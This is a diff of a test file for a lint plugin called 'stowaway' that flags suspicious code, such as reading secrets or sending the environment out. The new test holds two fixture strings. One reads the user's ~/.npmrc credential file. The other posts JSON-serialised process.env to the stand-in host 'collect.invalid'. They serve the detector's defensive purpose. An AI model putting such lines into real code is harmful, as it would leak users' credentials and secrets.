@@ -180,19 +180,26 @@ describe('the plugin', () => {
   });
 
   test.each(Object.entries(stowaway.rules))('says of %s what it finds, and has its page', (id, { meta }) => {
-    expect(meta).toMatchObject({ type: 'problem', schema: [], docs: { description: rules[id]?.meta.summary } });
+    expect(meta).toMatchObject({ type: 'problem', docs: { description: rules[id]?.meta.summary } });
     expect(meta?.docs?.url).toMatch(/^file:/);
     expect(existsSync(fileURLToPath(meta?.docs?.url ?? ''))).toBe(true);
     expect(meta?.hasSuggestions ?? false).toBe(rules[id]?.meta.rewrite !== undefined);
     expect(meta?.docs?.recommended).toBe(`stowaway/${id}` in (recommended.rules ?? {}));
   });
 
-  test('has a config with all rules and one with those that suffice for suspicion', () => {
-    const enabled = (config: Linter.Config) => Object.keys(config.rules ?? {});
-    expect(enabled(all)).toEqual(Object.keys(stowaway.rules).map(id => `stowaway/${id}`));
-    expect(enabled(all)).toEqual(expect.arrayContaining(enabled(recommended)));
-    expect(enabled(recommended)).toContain('stowaway/sends-environment');
-    expect(enabled(recommended)).not.toContain('stowaway/gates-dangerous-action');
+  test('has a config with all rules', () => {
+    expect(Object.keys(all.rules ?? {})).toEqual(Object.keys(stowaway.rules).map(id => `stowaway/${id}`));
+  });
+
+  test('has a config of the findings of which one suffices for suspicion', () => {
+    const ids = (code: string, { rules = {} }: Linter.Config) => idsIn(lint(code, { plugins: { stowaway }, rules }));
+    const weak = `require('fs').readFileSync(require('os').homedir() + '/.npmrc');`;
+    const strong = `fetch('https://collect.invalid', { body: JSON.stringify(process.env) });`;
+    expect(ids(weak, all)).toEqual(['stowaway/reads-secrets']);
+    expect(ids(weak, recommended)).toEqual([]);
+    expect(recommended.rules).toHaveProperty(['stowaway/reads-secrets']);
+    expect(ids(strong, recommended)).toEqual(['stowaway/sends-environment']);
+    expect(Object.keys(recommended.rules ?? {})).not.toContain('stowaway/gates-dangerous-action');
   });
 
   test.each([
